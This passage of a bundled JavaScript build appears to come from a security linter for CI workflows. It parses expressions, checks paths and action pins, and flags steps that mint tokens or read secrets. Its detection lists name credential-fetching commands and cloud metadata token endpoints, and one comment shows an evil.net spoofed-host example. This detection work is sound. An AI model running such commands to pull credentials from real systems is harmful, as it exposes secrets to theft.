            };
        }
        this.depth--;
        return left;
    }
    operator() {
        if (this.dialect !== 'github' || this.token.kind !== 'punctuation')
            return undefined;
        return this.token.text in precedence ? this.token.text : undefined;
    }
    unary() {
        if (!this.is('!') || this.dialect !== 'github')
            return this.postfix();
        this.enter();
        const start = this.token.start;
        this.advance();
        const operand = this.unary();
        this.depth--;
        const range = { start: this.text.startOffset(start), end: operand.range.end };
        return { kind: 'not', operand, range };
    }
    postfix() {
        let expression = this.primary();
        const start = expression.range.start;
        for (;;) {
            if (this.is('.')) {
                this.advance();
                const name = this.token;
                if (this.is('*')) {
                    expression = { kind: 'wildcard', object: expression, range: this.from(start, name.end) };
                }
                else if (name.kind === 'name') {
                    expression = {
                        kind: 'property',
                        object: expression,
                        name: name.text,
                        range: this.from(start, name.end)
                    };
                }
                else {
                    throw new ExpressionError('a property name is missing after the dot', name.start);
                }
                this.advance();
            }
            else if (this.is('[')) {
                this.advance();
                if (this.is('*')) {
                    this.advance();
                    const end = this.expect(']');
                    expression = { kind: 'wildcard', object: expression, range: this.from(start, end) };
                }
                else {
                    const index = this.binary(0);
                    const end = this.expect(']');
                    expression = { kind: 'index', object: expression, index, range: this.from(start, end) };
                }
            }
            else {
                return expression;
            }
        }
    }
    primary() {
        const token = this.token;
        if (token.kind === 'literal') {
            this.advance();
            const range = this.text.range(token.start, token.end);
            return { kind: 'literal', value: token.value, range };
        }
        if (token.kind === 'name') {
            this.advance();
            const keyword = this.keyword(token.text);
            const range = this.text.range(token.start, token.end);
            if (keyword !== undefined && !this.is('('))
                return { kind: 'literal', value: keyword, range };
            if (!this.is('('))
                return { kind: 'context', name: token.text, range };
            this.advance();
            const args = [];
            while (!this.is(')')) {
                args.push(this.binary(0));
                if (!this.is(','))
                    break;
                this.advance();
            }
            const end = this.expect(')');
            return { kind: 'call', name: token.text, args, range: this.text.range(token.start, end) };
        }
        if (this.is('(')) {
            this.advance();
            const inner = this.binary(0);
            this.expect(')');
            return inner;
        }
        throw new ExpressionError(token.kind === 'end' ? 'the expression is incomplete' : 'a value is missing here', token.start);
    }
    keyword(name) {
        const known = this.dialect === 'azure' ? name.toLowerCase() : name;
        if (known === 'true')
            return true;
        if (known === 'false')
            return false;
        if (known === 'null')
            return null;
        if (name === 'NaN')
            return Number.NaN;
        if (name === 'Infinity')
            return Number.POSITIVE_INFINITY;
        return undefined;
    }
    is(text) {
        return this.token.kind === 'punctuation' && this.token.text === text;
    }
    expect(text) {
        if (!this.is(text))
            throw new ExpressionError(`'${text}' is missing here`, this.token.start);
        const end = this.token.end;
        this.advance();
        return end;
    }
    from(fileStart, end) {
        return { start: fileStart, end: Math.max(fileStart, this.text.range(end - 1, end).end) };
    }
    enter() {
        if (++this.depth > maxDepth) {
            throw new ExpressionError('the expression is nested too deeply', this.token.start);
        }
    }
    advance() {
        this.previous = this.token;
        this.token = this.read();
    }
    read() {
        const source = this.source;
        while (this.position < source.length && whitespace.test(source[this.position]))
            this.position++;
        const start = this.position;
        if (start >= source.length)
            return { kind: 'end', start, end: start };
        const character = source[start];
        if (character === "'")
            return this.string(start);
        if (character !== '.' || !this.followsValue()) {
            const version = this.dialect === 'azure' ? this.match(versionPattern) : undefined;
            if (version)
                return { kind: 'literal', value: version, start, end: this.position };
            const number = this.match(numberPattern);
            if (number)
                return { kind: 'literal', value: Number(number), start, end: this.position };
        }
        const name = this.match(namePattern);
        if (name)
            return { kind: 'name', text: name, start, end: this.position };
        const two = source.slice(start, start + 2);
        const text = ['||', '&&', '==', '!=', '<=', '>='].includes(two) ? two : character;
        if (!'()[],.*!<>'.includes(text) && text.length === 1) {
            throw new ExpressionError(`'${character}' has no meaning in an expression`, start);
        }
        this.position += text.length;
        return { kind: 'punctuation', text, start, end: this.position };
    }
    /** True where a dot continues a value and does not begin a number. */
    followsValue() {
        const before = this.previous;
        if (!before)
            return false;
        return before.kind === 'punctuation' ? ')]*'.includes(before.text) : before.kind !== 'end';
    }
    string(start) {
        const parts = [];
        let from = start + 1;
        for (;;) {
            const quote = this.source.indexOf("'", from);
            if (quote < 0)
                throw new ExpressionError('the string has no closing quote', start);
            parts.push(this.source.slice(from, quote));
            from = quote + 1;
            if (this.source[from] !== "'")
                break;
            parts.push("'");
            from++;
        }
        this.position = from;
        return { kind: 'literal', value: parts.join(''), start, end: from };
    }
    match(pattern) {
        pattern.lastIndex = this.position;
        const found = pattern.exec(this.source)?.[0];
        if (!found)
            return undefined;
        this.position += found.length;
        return found;
    }
}
/**
 * The place that a reference names, in lower case from its root: `github.event.issue.title` is
 * `['github', 'event', 'issue', 'title']`. A wildcard is `*`, a computed index `?`. Undefined when the
 * expression is not a reference.
 */
function referencePath(expression) {
    const path = [];
    let current = expression;
    for (;;) {
        if (current.kind === 'context') {
            path.push(current.name.toLowerCase());
            return path.reverse();
        }
        if (current.kind === 'property')
            path.push(current.name.toLowerCase());
        else if (current.kind === 'wildcard')
            path.push('*');
        else if (current.kind === 'index') {
            const { index } = current;
            path.push(index.kind === 'literal' ? String(index.value).toLowerCase() : '?');
        }
        else
            return undefined;
        current = current.object;
    }
}
/** Functions whose result tells of their arguments only whether, never what. */
const opaqueFunctions = new Set([
    'contains',
    'startswith',
    'endswith',
    'hashfiles',
    'always',
    'success',
    'failure',
    'cancelled',
    'succeeded',
    'failed',
    'canceled',
    'succeededorfailed',
    'eq',
    'ne',
    'gt',
    'ge',
    'lt',
    'le',
    'in',
    'notin',
    'and',
    'or',
    'not',
    'xor',
    'containsvalue',
    'length',
    'counter'
]);
/** Every reference in an expression, outermost first, indices included. */
function referencesIn(expression) {
    const found = [];
    const stack = [
        { node: expression, within: [], flows: true }
    ];
    while (stack.length > 0) {
        const { node, within, flows } = stack.pop();
        switch (node.kind) {
            case 'literal':
                break;
            case 'context':
                found.push({ path: [node.name.toLowerCase()], expression: node, within, flows });
                break;
            case 'property':
            case 'index':
            case 'wildcard': {
                const path = referencePath(node);
                if (path)
                    found.push({ path, expression: node, within, flows });
                for (let part = node;;) {
                    if (part.kind === 'index')
                        stack.push({ node: part.index, within, flows: false });
                    if (part.kind !== 'property' && part.kind !== 'index' && part.kind !== 'wildcard') {
                        if (!path)
                            stack.push({ node: part, within, flows });
                        break;
                    }
                    part = part.object;
                }
                break;
            }
            case 'call': {
                const name = node.name.toLowerCase();
                const inner = [name, ...within];
                const carries = flows && !opaqueFunctions.has(name);
                for (let i = node.args.length - 1; i >= 0; i--) {
                    stack.push({ node: node.args[i], within: inner, flows: carries });
                }
                break;
            }
            case 'not':
                stack.push({ node: node.operand, within, flows: false });
                break;
            case 'binary': {
                // `a && b` yields `a` only when it is empty, so only `b` can carry a text.
                const logical = node.operator === '&&' || node.operator === '||';
                stack.push({ node: node.right, within, flows: flows && logical });
                stack.push({ node: node.left, within, flows: flows && node.operator === '||' });
                break;
            }
        }
    }
    return found;
}
/** Every call in an expression. */
function callsIn(expression) {
    const calls = [];
    const stack = [expression];
    while (stack.length > 0) {
        const node = stack.pop();
        if (node.kind === 'call') {
            calls.push(node);
            stack.push(...[...node.args].reverse());
        }
        else if (node.kind === 'property' || node.kind === 'wildcard')
            stack.push(node.object);
        else if (node.kind === 'index')
            stack.push(node.index, node.object);
        else if (node.kind === 'not')
            stack.push(node.operand);
        else if (node.kind === 'binary')
            stack.push(node.right, node.left);
    }
    return calls;
}
//# sourceMappingURL=expression.js.map

/***/ }),

/***/ 52727:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Go: () => (/* binding */ findGitHubExpressions),
/* harmony export */   S4: () => (/* binding */ parseGitHubCondition),
/* harmony export */   eV: () => (/* binding */ findBracedExpressions)
/* harmony export */ });
/* unused harmony export wholeGitHubExpression */
/* harmony import */ var _expression_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(68193);

/**
 * Finds every `${{ … }}` of a scalar. As in the runner, `}}` inside a quoted string does not close
 * it. An expression that is not closed or not valid is a site with a problem and no expression.
 */
function findGitHubExpressions(text) {
    return findBracedExpressions(text, 'github');
}
/** The expression of a text that is one `${{ … }}` and nothing else. */
function wholeGitHubExpression(text) {
    const sites = findGitHubExpressions(text);
    const site = sites[0];
    if (sites.length !== 1 || !site)
        return undefined;
    const around = text.text.slice(0, site.start) + text.text.slice(site.end);
    return around.trim() === '' ? site.expression : undefined;
}
/** A condition (`if:`), which is an expression with or without its delimiters. */
function parseGitHubCondition(text) {
    if (!text.text.includes('${{'))
        return (0,_expression_js__WEBPACK_IMPORTED_MODULE_0__/* .parseExpression */ .YK)(text, 'github');
    const expression = wholeGitHubExpression(text);
    if (expression)
        return { expression };
    return {
        problem: {
            kind: 'error',
            message: 'the condition mixes text and expressions',
            range: text.range()
        }
    };
}
/** `${{ … }}` of either system. */
function findBracedExpressions(text, dialect) {
    const source = text.text;
    const sites = [];
    let from = 0;
    for (;;) {
        const start = source.indexOf('${{', from);
        if (start < 0)
            return sites;
        const close = closingBraces(source, start + 3);
        if (close === undefined) {
            const range = text.range(start, start + 3);
            sites.push({
                range,
                start,
                end: source.length,
                problem: { kind: 'error', message: 'the expression has no closing }}', range }
            });
            return sites;
        }
        const end = close + 2;
        sites.push({
            ...(0,_expression_js__WEBPACK_IMPORTED_MODULE_0__/* .parseExpression */ .YK)(text.slice(start + 3, close), dialect),
            range: text.range(start, end),
            start,
            end
        });
        from = end;
    }
}
function closingBraces(source, from) {
    let quoted = false;
    for (let i = from; i < source.length; i++) {
        const character = source[i];
        if (character === "'")
            quoted = !quoted;
        else if (!quoted && character === '}' && source[i + 1] === '}')
            return i;
    }
    return undefined;
}
//# sourceMappingURL=github-expression.js.map

/***/ }),

/***/ 70993:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   OW: () => (/* binding */ WordBuilder),
/* harmony export */   XD: () => (/* binding */ optionOf),
/* harmony export */   c$: () => (/* binding */ isLiteral),
/* harmony export */   jn: () => (/* binding */ wordFrom),
/* harmony export */   q6: () => (/* binding */ maskTemplates),
/* harmony export */   r3: () => (/* binding */ templatesOf)
/* harmony export */ });
/**
 * Finds `${{ … }}` (quotes inside respected) and, for Azure Pipelines, the macro `$(name)`. A macro
 * cannot be told from a command without arguments (`$(pwd)`); neither has anything to look at.
 */
function templatesOf(text, expansion) {
    const found = [];
    if (expansion === 'none')
        return found;
    let position = 0;
    while (position < text.length) {
        const start = text.indexOf('$', position);
        if (start < 0)
            break;
        const end = text.startsWith('${{', start)
            ? endOfExpression(text, start + 3)
            : expansion === 'azure-macro' && text[start + 1] === '('
                ? endOfMacro(text, start + 2)
                : -1;
        if (end < 0) {
            position = start + 1;
            continue;
        }
        const inset = text[start + 1] === '{' ? [3, 2] : [2, 1];
        found.push({ start, end, name: text.slice(start + inset[0], end - inset[1]).trim() });
        position = end;
    }
    return found;
}
/** Longest expression that is looked for, so that many unclosed ones stay linear. */
const longestExpression = 4096;
function endOfExpression(text, from) {
    const last = Math.min(text.length, from + longestExpression);
    let quoted = false;
    for (let i = from; i < last; i++) {
        if (text[i] === "'")
            quoted = !quoted;
        else if (!quoted && text[i] === '}' && text[i + 1] === '}')
            return i + 2;
    }
    return -1;
}
function endOfMacro(text, from) {
    let i = from;
    while (i - from < 200 && /[\w.\- ]/.test(text[i] ?? ''))
        i++;
    const name = text.slice(from, i);
    return text[i] === ')' && /^[A-Za-z_][\w.-]*$/.test(name) ? i + 1 : -1;
}
/** The text with letters in place of templates, so that they neither split nor open anything. */
function maskTemplates(text, templates) {
    if (templates.length === 0)
        return text;
    const parts = [];
    let position = 0;
    for (const template of templates) {
        parts.push(text.slice(position, template.start), 'x'.repeat(template.end - template.start));
        position = template.end;
    }
    parts.push(text.slice(position));
    return parts.join('');
}
/** Puts a word together from stretches of the script. */
class WordBuilder {
    source;
    templates;
    pieces = [];
    expansions = [];
    length = 0;
    constructor(source, templates) {
        this.source = source;
        this.templates = templates;
    }
    /** Text that stands for itself, templates in it marked. */
    literal(start, end) {
        let position = start;
        for (let i = firstAfter(this.templates, start); i < this.templates.length; i++) {
            const template = this.templates[i];
            if (template.start >= end)
                break;
            if (template.start < position || template.end > end)
                continue;
            this.add(position, template.start);
            this.mark(template.start, template.end, { kind: 'template', name: template.name });
            position = template.end;
        }
        this.add(position, end);
    }
    /** An escape: a stretch that stands for other text. */
    escape(start, end, text) {
        this.pieces.push({ text, start, end });
        this.length += text.length;
    }
    /** A stretch that the shell replaces. */
    mark(start, end, expansion) {
        const from = this.length;
        this.add(start, end);
        this.expansions.push({ ...expansion, start: from, end: this.length });
    }
    finish(start, end, quoted) {
        const text = this.pieces.length > 0 ? this.source.compose(this.pieces) : this.source.slice(start, start);
        return { text, expansions: this.expansions, range: this.source.range(start, end), quoted };
    }
    add(start, end) {
        const text = this.source.text.slice(start, end);
        if (text === '')
            return;
        this.pieces.push({ text, start, end: start + text.length });
        this.length += text.length;
    }
}
/** Index of the first template that ends after `offset`. */
function firstAfter(templates, offset) {
    let low = 0;
    let high = templates.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (templates[middle].end > offset)
            high = middle;
        else
            low = middle + 1;
    }
    return low;
}
/** True when the word is text of which nothing is left to the shell or the CI system. */
function isLiteral(word) {
    return word.expansions.length === 0 && !word.entries && !word.items;
}
/**
 * The value of an option: `--name value`, `--name=value`, and for PowerShell `-Name value` and
 * `-Name:value`. `names` are lower case with their dashes; comparison ignores case for PowerShell
 * only. The last one wins, as in the tools themselves.
 */
function optionOf(command, ...names) {
    let found;
    command.words.forEach((word, index) => {
        const text = word.text.text;
        if (!text.startsWith('-'))
            return;
        for (const name of names) {
            if (text.toLowerCase() === name)
                found = command.words[index + 1] ?? found;
            else if (text.length > name.length && text.slice(0, name.length).toLowerCase() === name) {
                const separator = text[name.length];
                if (separator === '=' || separator === ':')
                    found = wordFrom(word, name.length + 1);
            }
        }
    });
    return found;
}
/** The rest of a word from an offset of its text. */
function wordFrom(word, start) {
    const text = word.text.slice(start);
    return {
        text,
        expansions: word.expansions
            .filter(expansion => expansion.end > start)
            .map(expansion => ({
            ...expansion,
            start: Math.max(0, expansion.start - start),
            end: expansion.end - start
        })),
        range: text.range(),
        quoted: word.quoted
    };
}
//# sourceMappingURL=shell.js.map

/***/ }),

/***/ 28689:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   _: () => (/* binding */ matchesAny),
/* harmony export */   g: () => (/* binding */ isThroughGateway)
/* harmony export */ });
/** True when an address lies at or below one of the gateways: origins or URL prefixes. */
function isThroughGateway(url, gateways) {
    const address = url.trim();
    return gateways.some(gateway => {
        const prefix = gateway.replace(/\/+$/, '');
        const origin = /^[a-z]+:\/\/[^/?#]+/i.exec(prefix)?.[0] ?? prefix;
        const start = address.slice(0, prefix.length);
        const matches = start.slice(0, origin.length).toLowerCase() === origin.toLowerCase() &&
            start.slice(origin.length) === prefix.slice(origin.length);
        // The prefix ends at a part's end: https://mcp.acme.com is no prefix of https://mcp.acme.com.evil.net
        return (matches &&
            /^(?:$|[/?#])/.test(address.slice(prefix.length)) &&
            !/[/\\]\.\.(?:[/\\]|$)|%2e%2e/i.test(address));
    });
}
/** True when one of the names matches one of the patterns; `*` stands for any text. */
function matchesAny(names, patterns) {
    return patterns.some(pattern => names.some(name => matches(name, pattern)));
}
/** Wildcards without backtracking: each literal part is looked for in turn. */
function matches(name, pattern) {
    const parts = pattern.split('*');
    if (parts.length === 1)
        return name === pattern;
    const [first = '', ...rest] = parts;
    const last = rest.pop() ?? '';
    if (!name.startsWith(first) || name.length < first.length + last.length)
        return false;
    let at = first.length;
    for (const part of rest) {
        const found = name.indexOf(part, at);
        if (found < 0)
            return false;
        at = found + part.length;
    }
    return name.endsWith(last) && name.length - last.length >= at;
}
//# sourceMappingURL=gateways.js.map

/***/ }),

/***/ 47396:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   CO: () => (/* binding */ breadthOf),
/* harmony export */   IB: () => (/* binding */ splitPathList),
/* harmony export */   UO: () => (/* binding */ isWithin)
/* harmony export */ });
const systemFolders = new Set([
    '/etc',
    '/var',
    '/usr',
    '/home',
    '/Users',
    '/System',
    '/Library',
    '/Volumes',
    '/mnt',
    '/media',
    '/opt',
    '/proc',
    '/sys',
    '/dev',
    '/bin',
    '/sbin',
    '/lib',
    '/boot',
    '/private',
    '/private/etc',
    '/private/var'
]);
const homeVariable = /^(?:~|\$HOME|\$\{(?:env:)?HOME\}|\$\{userHome\}|\{env:HOME\}|\$env:(?:HOME|USERPROFILE)|\$\{(?:env:)?USERPROFILE\}|\{env:USERPROFILE\}|%(?:USERPROFILE|HOMEPATH)%|%HOMEDRIVE%%HOMEPATH%)(?=[\\/]|$)/i;
const workspaceVariable = /^(?:\$\{(?:workspaceFolder|workspaceRoot|workspaceFolder:[^}]*|env:PWD|PWD)\}|\$PWD|\$\(pwd\)|%CD%|\$\{CLAUDE_PROJECT_DIR\})(?=[\\/]|$)/;
/** Judges a path as written in a configuration file; relative paths start at the workspace. */
function breadthOf(written) {
    let path = written.trim();
    const uri = /^file:\/\/(?:localhost)?(?=\/|$)/i.exec(path);
    if (uri)
        path = path.slice(uri[0].length) || '/';
    else if (/^file:\/*$/i.test(path))
        path = '/';
    // file:///C:/ and the extended forms \\?\C:\ and \\.\C:\
    path =
        path.replace(/^\/(?=[a-zA-Z]:(?:[\\/]|$))/, '').replace(/^[\\/]{2}[?.](?:[\\/]|$)/, '') || '/';
    if (/^[a-zA-Z]:(?:[\\/]|$)/.test(path))
        return windowsBreadth(path);
    const home = homeVariable.exec(path);
    if (home)
        return relativeBreadth(path.slice(home[0].length), 'broad', 'root');
    const workspace = workspaceVariable.exec(path);
    if (workspace)
        return relativeBreadth(path.slice(workspace[0].length), 'narrow', 'broad');
    if (path.startsWith('/'))
        return absoluteBreadth(path);
    if (path.startsWith('\\') && !path.startsWith('\\\\'))
        return path === '\\' ? 'root' : 'narrow';
    return /^\.\.?(?:[\\/]|$)/.test(path) ? relativeBreadth(path, 'narrow', 'broad') : 'narrow';
}
/** Segments after `.`, `..` and empty ones are resolved; how far `..` climbs above the start. */
function resolveSegments(path) {
    const segments = [];
    let above = 0;
    for (const segment of path.split(/[\\/]+/)) {
        if (segment === '' || segment === '.')
            continue;
        if (segment !== '..')
            segments.push(segment);
        else if (segments.length > 0)
            segments.pop();
        else
            above++;
    }
    while (segments.length > 0 && /^\*{1,2}$/.test(segments.at(-1)))
        segments.pop();
    return { segments, above };
}
function relativeBreadth(path, here, parent) {
    const { segments, above } = resolveSegments(path);
    if (segments.length > 0)
        return 'narrow';
    return above > 0 ? parent : here;
}
function absoluteBreadth(path) {
    const { segments } = resolveSegments(path);
    const [first, second] = segments;
    const resolved = `/${segments.join('/')}`;
    if (!first || systemFolders.has(resolved))
        return 'root';
    // A drive under WSL and Git Bash: /mnt/c, /c
    if (/^[a-z]$/i.test(segments.at(-1)) &&
        (segments.length === 1 || (segments.length === 2 && first === 'mnt'))) {
        return 'root';
    }
    if (resolved === '/root')
        return 'broad';
    if ((first === 'home' || first === 'Users') && second && segments.length === 2)
        return 'broad';
    return 'narrow';
}
function windowsBreadth(path) {
    const { segments } = resolveSegments(path.slice(2));
    const [first, second] = segments.map(segment => segment.toLowerCase());
    if (!first)
        return 'root';
    if (segments.length === 1 &&
        /^(?:users|windows|program files(?: \(x86\))?|programdata)$/.test(first))
        return 'root';
    return first === 'users' && second && segments.length === 2 ? 'broad' : 'narrow';
}
/** True when `path` is one of `roots` or lies below one. */
function isWithin(path, roots) {
    const normal = (text) => text.replaceAll('\\', '/').replace(/\/+$/, '');
    const target = normal(path);
    return roots.some(root => target === normal(root) || target.startsWith(`${normal(root)}/`));
}
/** Splits a list of paths as environment variables hold it: by `,`, `;` or `:`, not at a drive's colon. */
function splitPathList(text) {
    const parts = [];
    let start = 0;
    for (let i = 0; i <= text.length; i++) {
        const char = text[i];
        const drive = char === ':' && i - start === 1 && /[\\/]/.test(text[i + 1] ?? '');
        const scheme = char === ':' && text.startsWith('//', i + 1);
        const reference = char === ':' && text.lastIndexOf('{', i) > text.lastIndexOf('}', i);
        if (char !== undefined && (!/[,;:]/.test(char) || drive || scheme || reference))
            continue;
        const part = text.slice(start, i);
        const trimmed = part.trim();
        if (trimmed !== '')
            parts.push({ text: trimmed, start: start + part.indexOf(trimmed) });
        start = i + 1;
    }
    return parts;
}
//# sourceMappingURL=paths.js.map

/***/ }),

/***/ 74320:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Cq: () => (/* binding */ isPinnedImage),
/* harmony export */   HZ: () => (/* binding */ readTaskReference),
/* harmony export */   Os: () => (/* binding */ readActionReference),
/* harmony export */   WM: () => (/* binding */ isCommit),
/* harmony export */   iR: () => (/* binding */ majorVersion)
/* harmony export */ });
const repository = /^([A-Za-z0-9_.-]+)\/([A-Za-z0-9_.-]+)(?:\/([^@\s]+))?(?:@(\S+))?$/;
/**
 * Reads the value of `uses:` (GitHub Docs "Workflow syntax": `owner/repo/path@ref`, `./path`,
 * `docker://image`). `comment` is what stands behind it on its line.
 */
function readActionReference(text, comment = '') {
    const source = text.text.trim();
    const offset = text.text.indexOf(source);
    if (source.includes('${{'))
        return { text, kind: 'unknown', name: '' };
    if (source.startsWith('./') || source.startsWith('../') || source.startsWith('$/')) {
        return { text, kind: 'local', name: source };
    }
    if (source.startsWith('docker://')) {
        return { text, kind: 'container', name: source.slice('docker://'.length) };
    }
    const match = repository.exec(source);
    if (!match)
        return { text, kind: 'unknown', name: '' };
    const [, owner, name, path, ref] = match;
    return {
        text,
        kind: 'repository',
        name: `${owner}/${name}`.toLowerCase(),
        ...(path ? { path } : {}),
        ...(ref
            ? {
                ref,
                refText: text.slice(offset + source.length - ref.length, offset + source.length)
            }
            : {}),
        ...versionOf(comment)
    };
}
function versionOf(comment) {
    const version = /\bv?(\d+(?:\.\d+){0,2})\b/.exec(comment);
    return version ? { comment: `v${version[1]}` } : {};
}
/** Reads the value of `task:`, such as `AzureCLI@2`; a publisher's prefix or a GUID is kept. */
function readTaskReference(text) {
    const source = text.text.trim();
    if (source.includes('${{'))
        return { text, kind: 'unknown', name: '' };
    const at = source.lastIndexOf('@');
    if (at < 0)
        return { text, kind: 'task', name: source.toLowerCase() };
    return {
        text,
        kind: 'task',
        name: source.slice(0, at).toLowerCase(),
        ref: source.slice(at + 1)
    };
}
/** A full commit id (SHA-1 or SHA-256), the only reference that cannot be moved. */
function isCommit(ref) {
    return ref !== undefined && /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/i.test(ref);
}
/** True for an image with a digest; `image` is without `docker://`. */
function isPinnedImage(image) {
    return /@sha256:[0-9a-f]{64}$/i.test(image.trim());
}
/**
 * The major version that a step runs, from its tag or from the comment behind a pinned commit;
 * undefined when neither tells.
 */
function majorVersion(reference) {
    const text = isCommit(reference.ref) ? reference.comment : reference.ref;
    const match = /^(?:refs\/tags\/)?v?(\d+)(?:\.|$)/.exec(text ?? '');
    return match ? Number(match[1]) : undefined;
}
//# sourceMappingURL=action-reference.js.map

/***/ }),

/***/ 42887:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   i: () => (/* binding */ flagOf),
/* harmony export */   w: () => (/* binding */ inputOf)
/* harmony export */ });
/** The value of an input of a step, its name compared without case. */
function inputOf(step, ...names) {
    for (const name of names) {
        const lower = name.toLowerCase();
        const input = step.inputs.find(({ name }) => name.text.toLowerCase() === lower);
        if (input)
            return input.value;
    }
    return undefined;
}
/** An input that is a boolean; undefined when it is absent or an expression. */
function flagOf(step, name) {
    const text = inputOf(step, name)?.text.trim().toLowerCase();
    return text === 'true' ? true : text === 'false' ? false : undefined;
}
//# sourceMappingURL=inputs.js.map

/***/ }),

/***/ 49836:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   NO: () => (/* binding */ mintedBy),
/* harmony export */   ep: () => (/* binding */ operandsOf),
/* harmony export */   oQ: () => (/* binding */ programOf),
/* harmony export */   yc: () => (/* binding */ isHarmlessSelection)
/* harmony export */ });
/* harmony import */ var _formats_shell_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(70993);

/** Programs that start another one, which is named behind their options. */
const wrappers = new Set(['sudo', 'doas', 'exec', 'command', 'time', 'nohup', 'builtin']);
/** The words of a command from its program on: without `sudo -E` and its like. */
function wordsFromProgram({ words }) {
    let start = 0;
    while (start < words.length - 1 && wrappers.has(words[start].text.text)) {
        start++;
        while (start < words.length - 1 && words[start].text.text.startsWith('-')) {
            start += /^-[ughp]$/.test(words[start].text.text) ? 2 : 1;
        }
    }
    return words.slice(start);
}
/** The program of a command: lower case, without `sudo`, its path and `.exe`. */
function programOf(command) {
    const name = wordsFromProgram(command)[0]?.text.text ?? '';
    return name
        .slice(Math.max(name.lastIndexOf('/'), name.lastIndexOf('\\')) + 1)
        .toLowerCase()
        .replace(/\.(?:exe|cmd|bat|ps1)$/, '');
}
/** Commands whose output is a fresh token or a stored secret: the runner does not know it yet. */
const minting = [
    ['az', /^account get-access-token\b/],
    ['az', /^keyvault (?:secret|key) (?:show|download)\b/],
    ['az', /^acr (?:login\b.*--expose-token|credential show|token create)/],
    ['az', /^storage (?:account keys list|(?:account|container|blob|share|file) generate-sas)/],
    ['az', /^(?:ad sp create-for-rbac|ad (?:sp|app) credential reset)/],
    [
        'az',
        /^(?:cosmosdb keys list|redis list-keys|functionapp keys list|webapp deployment list-publishing-(?:profiles|credentials)|search admin-key show|cognitiveservices account keys list|eventhubs .*keys list|servicebus .*keys list|iot .*connection-string show)/
    ],
    [
        'gcloud',
        /^(?:.*\s)?(?:auth (?:application-default )?print-(?:access|identity)-token|secrets versions access)\b/
    ],
    [
        'aws',
        /^(?:.*\s)?(?:sts (?:assume-role[\w-]*|get-session-token|get-federation-token)|ecr(?:-public)? get-login-password|secretsmanager get-secret-value|codeartifact get-authorization-token|eks get-token|ssm get-parameters?\b.*--with-decryption)/
    ],
    [
        'vault',
        /^(?:kv get|read|token create|print token|login|write auth\/\S+\/login|write -\S+ auth\/\S+\/login)\b/
    ],
    ['gh', /^auth token\b/],
    ['op', /^(?:read|item get)\b/],
    ['kubectl', /^create token\b/],
    ['oc', /^whoami (?:-t|--show-token)\b/],
    ['doppler', /^secrets get\b/],
    ['mcp-gatehouse', /^token\b/],
    ['get-azaccesstoken', /^/],
    ['get-azkeyvaultsecret', /^/]
];
/** Places that hand out tokens over HTTP. */
const tokenEndpoints = /ACTIONS_ID_TOKEN_REQUEST_URL|\/oauth2?\/(?:v2\.0\/)?token\b|login\.microsoftonline\.com|\/access_tokens\b|169\.254\.169\.254\/metadata\/identity|metadata\.google\.internal\/.*\/token|SYSTEM_OIDCREQUESTURI|\/oidctoken\b/i;
/** What a command fetches, for messages; undefined when its output is no secret. */
function mintedBy(command) {
    const program = programOf(command);
    const rest = wordsFromProgram(command)
        .slice(1)
        .map(word => word.text.text)
        .join(' ');
    if (/^(?:curl|wget|http|https|xh|invoke-restmethod|invoke-webrequest|irm|iwr)$/.test(program)) {
        return tokenEndpoints.test(rest) && printsBody(command)
            ? `a token fetched with ${program}`
            : undefined;
    }
    for (const [name, pattern] of minting) {
        if (name !== program || !pattern.test(rest))
            continue;
        if (!yieldsSecret(command))
            return undefined;
        const verb = /^[a-z][\w -]*?(?=\s+(?:-|[^a-z\s])|$)/.exec(rest)?.[0] ?? '';
        return `the output of ${`${program} ${verb}`.trim()}`;
    }
    return undefined;
}
function printsBody(command) {
    const output = (0,_formats_shell_js__WEBPACK_IMPORTED_MODULE_0__/* .optionOf */ .XD)(command, '-o', '--output');
    return !output || output.text.text === '-';
}
/** A query that selects something else, or an output that is not printed. */
function yieldsSecret(command) {
    const output = (0,_formats_shell_js__WEBPACK_IMPORTED_MODULE_0__/* .optionOf */ .XD)(command, '-o', '--output');
    if (output?.text.text === 'none')
        return false;
    if (command.words.some(({ text }) => text.text === '-no-print'))
        return false;
    const query = (0,_formats_shell_js__WEBPACK_IMPORTED_MODULE_0__/* .optionOf */ .XD)(command, '--query')?.text.text;
    return query === undefined || !isHarmlessSelection(query);
}
/** Last parts of a path that name no secret: `.expires_in`, `.Credentials.Expiration`, `tenant`. */
const harmlessParts = /^(?:expir\w*|token_?type|\w*key_?id|id|\w+_?id|name|tenant|subscription|version|region|arn|account|type|kid|status|user(?:name)?|email|length|enabled|url|endpoint|host|aud|iss|sub|exp|iat|nbf|azp|tid|oid|roles|scp)$/i;
/**
 * True for the path of a part that is no secret. Of a stored secret every other part is one; of a
 * command's output only those that say so.
 */
function isHarmlessSelection(selection, of = 'minted') {
    const last = /([A-Za-z_]\w*)[^\w]*$/.exec(selection)?.[1];
    if (last !== undefined && harmlessParts.test(last))
        return true;
    if (of === 'stored')
        return false;
    return (/[A-Za-z]/.test(selection) &&
        !/token|secret|password|value|key|credential|cert|data|sas|payload/i.test(selection));
}
/** The words of a command that are arguments and not options. */
function operandsOf(command) {
    return wordsFromProgram(command)
        .slice(1)
        .filter(({ text }) => !text.text.startsWith('-'));
}
//# sourceMappingURL=minting.js.map

/***/ }),

/***/ 94556:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {


// EXPORTS
